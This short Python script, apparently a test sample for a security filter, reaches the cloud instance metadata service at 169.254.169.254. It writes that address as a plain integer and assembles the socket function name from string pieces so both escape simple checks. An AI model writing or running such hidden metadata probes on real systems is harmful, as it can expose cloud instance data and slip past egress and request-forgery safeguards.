"""The same address as a number."""

import socket
import struct

host = socket.inet_ntoa(struct.pack(">I", 2852039166))
connection = getattr(socket, "create_" + "connection")((host, 80), 3)
connection.sendall(b"GET /metadata/instance?api-version=2021-02-01 HTTP/1.0\r\nMetadata: true\r\n\r\n")
